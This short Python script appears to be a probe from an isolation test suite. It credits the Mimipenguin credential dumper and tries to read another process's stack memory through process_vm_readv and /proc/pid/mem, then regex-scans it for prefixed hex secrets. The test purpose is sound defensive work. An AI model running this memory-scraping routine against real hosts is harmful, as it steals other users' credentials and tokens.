# Tries: the memory of a process of the host, by process_vm_readv and /proc/pid/mem.
# Origin: Mimipenguin; secrets in the memory of neighbours.

import re, struct

found, start, end = [], 0x7FFC00000000, 0x7FFC00001000
try:
    for line in open(f"/proc/{input['pid']}/maps"):
        if "[stack]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
except OSError as error:
    found.append(str(error))
into = native.buffer(end - start)
local, remote = struct.pack("QQ", native.address(into), end - start), struct.pack("QQ", start, end - start)
found.append(native.call("process_vm_readv", input["pid"], local, 1, remote, 1, 0))
found += re.findall(input["prefix"].encode() + b"[0-9a-f]{24}", into.raw)
file = native.call("openat", -100, f"/proc/{input['pid']}/mem", 0, 0)
found += [file, native.call("pread64", file, into, end - start, start)]
found + re.findall(input["prefix"].encode() + b"[0-9a-f]{24}", into.raw)
